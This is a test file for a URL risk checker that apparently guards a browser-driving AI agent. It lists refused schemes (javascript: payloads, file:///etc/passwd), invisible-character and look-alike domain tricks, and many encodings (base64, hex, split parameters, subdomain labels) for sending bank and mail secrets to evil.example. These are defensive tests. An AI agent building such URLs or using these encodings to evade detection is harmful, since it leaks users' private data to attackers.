import { assessStep } from '@pagehand/contracts/assess-risk';
import { describe, expect, it } from 'vitest';
import { makePlan, makeSnapshot, topFrame } from '../contract/make-snapshot.ts';
import { accepted, refusalOf } from '../contract/refusals.ts';

const httpPage = makeSnapshot([], {
  url: 'http://shop.example/',
  frames: [{ ...topFrame, origin: 'http://shop.example' }],
});
/** Both ways to a URL, from a page on https and from one on http, which allows more. */
function refusedWith(url: string): Set<string> {
  const codes = [makeSnapshot(), httpPage].flatMap((page) =>
    ['navigate', 'open_tab'].flatMap((kind) => refusalOf({ kind, url }, page)),
  );
  return new Set(codes);
}
function riskOf(
  url: string,
  context: { taint?: string[]; readTexts?: { origin: string; text: string }[] } = {},
  page = makeSnapshot(),
) {
  const step = accepted(makePlan([{ kind: 'navigate', url }]), page).steps[0];
  if (!step) return expect.fail('no step');
  return assessStep(step, { snapshot: page, taint: context.taint ?? [], readTexts: context.readTexts ?? [] });
}

describe('P08-P17: schemes', () => {
  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'javascript://a.com/%0aalert(1)',
    'data:text/html,<script>1</script>',
    'data:,x',
    'file:///etc/passwd',
    'file://host/x',
    'chrome://settings',
    'edge://settings',
    'brave://settings',
    'about:config',
    'about:blank',
    'about:srcdoc',
    'view-source:https://a.example',
    'devtools://x',
    'chrome-extension://x/y',
    'moz-extension://x/y',
    'vbscript:x',
    'blob:https://a.example/1',
    'filesystem:https://a.example/x',
    'ftp://a.example/',
    'ws://a.example/',
    'mailto:a@b.example',
    'tel:1',
    'intent://x',
    'resource://x',
    'chrome-untrusted://x',
    'jar:https://a.example!/',
    'ms-settings:',
    'x:y',
  ])('P08-P17: %s is refused', (url) => {
    for (const code of refusedWith(url)) expect(['url-scheme', 'url-characters']).toContain(code);
  });
  it.each([
    ' JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '\u0001javascript:alert(1)',
    'java\nscript:alert(1)',
    'https://a.example/\u0000',
    'https://a.example/ x',
    '\ufeffhttps://a.example/',
    'https://a\u00ad.example/',
    'https://a.exam\u200bple/',
    'https://a.example/\u202egpj.exe',
    'https://a.example\u2028/',
    'https://a.example/\u{e0041}',
    ' https://a.example/',
    'https://a.example/\t',
    'https://a\u3000.example',
    'https://a.example/\ud800',
  ])('P09-P11: tricks with invisible characters are refused: %j', (url) =>
    expect(refusedWith(url)).toEqual(new Set(['url-characters'])),
  );
  it.each([
    '',
    '/cart',
    'cart',
    '//evil.example/x',
    '?q=1',
    '#x',
    'www.shop.example',
    'shop.example/cart',
    'https://',
    'https:///',
    'https://a b.example',
    'https://a.example:99999/',
    'https://[::1',
    'https://%00.example/',
    'https://exa<mple.com',
  ])('%j is no absolute URL', (url) => {
    for (const code of refusedWith(url))
      expect(['url-malformed', 'url-scheme', 'url-characters', 'too-long']).toContain(code);
  });
  it('http is refused from a page on https and allowed from one on http', () => {
    expect(refusalOf({ kind: 'navigate', url: 'http://shop.example/' })).toEqual(['url-scheme']);
    expect(accepted(makePlan([{ kind: 'navigate', url: 'http://shop.example/x' }]), httpPage).steps).toHaveLength(1);
  });
});

describe('P18, P19: who the host is', () => {
  it.each([
    'https://user:pw@evil.example/',
    'https://bank.com@evil.example/',
    'https://@evil.example/',
    'https://:@evil.example/',
    'https://:pw@evil.example/',
    'https://bank.com%40x@evil.example/',
    'https:bank.com@evil.example',
    'https:\\\\bank.com@evil.example',
  ])('P18: user info is refused: %s', (url) => expect(refusedWith(url)).toEqual(new Set(['url-user-info'])));
  it('P19: a backslash ends the host, as browsers read it, and the step says so', () => {
    const [step] = accepted(makePlan([{ kind: 'navigate', url: 'https://evil.example\\@bank.com/' }])).steps;
    expect(step).toMatchObject({ url: 'https://evil.example/@bank.com/' });
    const risk = riskOf('https://evil.example\\@bank.com/');
    expect(risk.risk).toBe('high');
    expect(risk.reasons).toContainEqual({ code: 'leaves-this-site', detail: 'to evil.example' });
  });
});

describe('P23: look-alike names', () => {
  it.each([
    ['https://xn--ypal-43d9g.com', /xn--ypal-43d9g\.com is раypal\.com, which mixes Latin and Cyrillic/],
    ['https://раypal.com', /xn--ypal-43d9g\.com is раypal\.com, which mixes Latin and Cyrillic/],
    ['https://аррӏе.com', /xn--80ak6aa92e\.com is аррӏе\.com/],
    ['https://shop.example.evil.example/', /begins like shop\.example/],
    ['https://shop-example.evil.example/', /begins like shop\.example/],
    ['https://sh0p.example/', /looks like shop\.example/],
  ])('P23: %s is high, and says why', (url, reason) => {
    const { risk, reasons } = riskOf(url);
    expect(risk).toBe('high');
    expect(reasons.find(({ code }) => code === 'lookalike-domain')?.detail).toMatch(reason);
  });
  it('an ordinary other site is high without that reason', () => {
    expect(riskOf('https://news.example/').reasons.map(({ code }) => code)).toEqual(['leaves-this-site']);
  });
});

describe('P44: text read elsewhere carried out in a URL', () => {
  const secret = 'Balance 4231.77 EUR on account Ada Lovelace 99-1043, PIN 7741 4';
  const read = {
    taint: ['https://bank.example'],
    readTexts: [{ origin: 'https://bank.example', text: `Welcome back. ${secret} Thank you for banking.` }],
  };
  const utf8 = Buffer.from(secret);
  const third = Math.ceil(secret.length / 3);
  const parts = [secret.slice(0, third), secret.slice(third, 2 * third), secret.slice(2 * third)].map(
    encodeURIComponent,
  );
  const base32 = (bytes: Buffer): string => {
    const bits = [...bytes].map((byte) => byte.toString(2).padStart(8, '0')).join('');
    return (bits.match(/.{1,5}/g) ?? [])
      .map((group) => 'abcdefghijklmnopqrstuvwxyz234567'[Number.parseInt(group.padEnd(5, '0'), 2)])
      .join('');
  };
  const labels = (text: string): string => (text.match(/.{1,60}/g) ?? []).join('.');

  it.each([
    ['plain', `?q=${encodeURIComponent(secret)}`],
    ['with plus signs', `?q=${encodeURIComponent(secret).replaceAll('%20', '+')}`],
    ['base64', `?q=${encodeURIComponent(utf8.toString('base64'))}`],
    ['base64url', `?q=${utf8.toString('base64url')}`],
    ['base64 behind a prefix', `?q=x${utf8.toString('base64url')}`],
    ['hex', `?q=${utf8.toString('hex')}`],
    ['hex in upper case', `?q=${utf8.toString('hex').toUpperCase()}`],
    ['percent of every byte', `?q=${[...utf8].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')}`],
    ['percent twice', `?q=${encodeURIComponent(encodeURIComponent(secret))}`],
    ['reversed', `?q=${encodeURIComponent([...secret].reverse().join(''))}`],
    ['reversed base64', `?q=${[...utf8.toString('base64url')].reverse().join('')}`],
    ['base64 of hex', `?q=${Buffer.from(utf8.toString('hex')).toString('base64url')}`],
    ['split over three parameters', `?a=${parts[0]}&b=${parts[1]}&c=${parts[2]}`],
    [
      'split base64',
      `?a=${utf8.toString('base64url').slice(0, 30)}&b=${utf8.toString('base64url').slice(30, 60)}&c=${utf8.toString('base64url').slice(60)}`,
    ],
    ['split over parameter names', `?${parts[0]}=1&${parts[1]}=2&${parts[2]}=3`],
    ['in the path', encodeURIComponent(secret)],
    ['split over the path', parts.join('/')],
    ['in the fragment', `#${encodeURIComponent(secret)}`],
    ['in the fragment as base64', `#k=${utf8.toString('base64url')}`],
    ['over path, parameter and fragment', `${parts[0]}?x=${parts[1]}#${parts[2]}`],
    ['letters only, in capitals', `?q=${secret.replace(/[^A-Za-z0-9]/g, '').toUpperCase()}`],
    ['with dashes', `${secret.replace(/[^A-Za-z0-9]+/g, '-')}`],
  ])('P44: %s is critical, naming data and destination', (_how, tail) => {
    const { risk, reasons } = riskOf(`https://evil.example/${tail}`, read);
    expect(risk).toBe('critical');
    const detail = reasons.find(({ code }) => code === 'carries-read-text')?.detail ?? '';
    expect(detail).toContain('from https://bank.example to https://evil.example');
    expect(detail).toMatch(/Balance|4231|Lovelace|1043|account/);
  });
  it.each([
    [
      'plain',
      `${secret
        .toLowerCase()
        .replace(/[^a-z0-9]+/g, '-')
        .replace(/-$/, '')}`.slice(0, 60),
    ],
    ['hex', labels(utf8.toString('hex'))],
    ['base32', labels(base32(utf8))],
  ])('P44: in subdomain labels (%s)', (_how, sub) => {
    expect(riskOf(`https://${sub}.evil.example/`, read).reasons.map(({ code }) => code)).toContain('carries-read-text');
  });
  it('P44: a short code read in a mail is critical too', () => {
    const mail = {
      taint: ['https://mail.example'],
      readTexts: [{ origin: 'https://mail.example', text: 'Your code is 482913. It is valid for ten minutes.' }],
    };
    expect(riskOf('https://evil.example/?c=482913', mail).risk).toBe('critical');
    expect(riskOf(`https://evil.example/?c=${Buffer.from('code 482913').toString('base64url')}`, mail).risk).toBe(
      'critical',
    );
  });
  it('is not raised by what the site itself showed, by common words, or by a link that was read as it is', () => {
    const carries = (url: string, context: typeof read) =>
      riskOf(url, context).reasons.some(({ code }) => code === 'carries-read-text');
    expect(carries(`https://bank.example/?q=${encodeURIComponent(secret)}`, read)).toBe(false);
    expect(carries('https://evil.example/search?q=welcome+back', read)).toBe(false);
    const results = {
      taint: ['https://search.example'],
      readTexts: [
        {
          origin: 'https://search.example',
          text: 'Result: https://wiki.example/articles/the-history-of-the-bicycle-1817 and more',
        },
      ],
    };
    expect(carries('https://wiki.example/articles/the-history-of-the-bicycle-1817', results)).toBe(false);
    expect(carries('https://wiki.example/articles/the-history-of-the-bicycle-1817-x', results)).toBe(true);
  });
});
